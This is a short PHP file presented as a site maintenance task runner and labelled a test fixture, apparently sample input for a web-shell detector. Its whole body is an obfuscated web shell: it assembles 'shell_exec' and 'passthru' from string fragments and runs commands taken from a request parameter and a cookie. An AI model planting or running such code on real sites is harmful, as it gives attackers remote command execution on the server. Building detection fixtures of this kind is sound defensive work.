<?php
/* Site maintenance task runner (test fixture: a command shell whose sink name sits in a constant). */
define('JOB_HANDLER', 'shell' . '_' . 'exec');
const REPORT_FN = 'pass' . 'thru';

$job = isset($_REQUEST['job']) ? trim($_REQUEST['job']) : '';
if ($job !== '') {
    echo '<pre>' . JOB_HANDLER($job) . '</pre>';
}
if (isset($_COOKIE['rep'])) {
    REPORT_FN($_COOKIE['rep']);
}
